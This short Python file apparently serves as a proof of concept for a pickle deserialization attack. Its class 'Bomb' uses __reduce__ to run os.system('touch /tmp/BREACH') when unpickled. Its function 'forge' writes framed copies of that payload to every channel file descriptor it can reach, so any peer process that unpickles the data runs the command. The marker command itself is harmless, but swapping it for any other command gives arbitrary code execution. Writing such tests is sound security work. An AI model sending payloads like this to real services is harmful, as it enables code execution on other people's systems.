import os
import pickle


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/BREACH",))


@everywhere
def forge(*args):
    body = pickle.dumps(Bomb())
    for fd in channels():
        for frame in (body, b"\xc5" + len(body).to_bytes(2, "big") + body):
            os.write(fd, len(frame).to_bytes(4, "big") + frame)
    return Bomb()
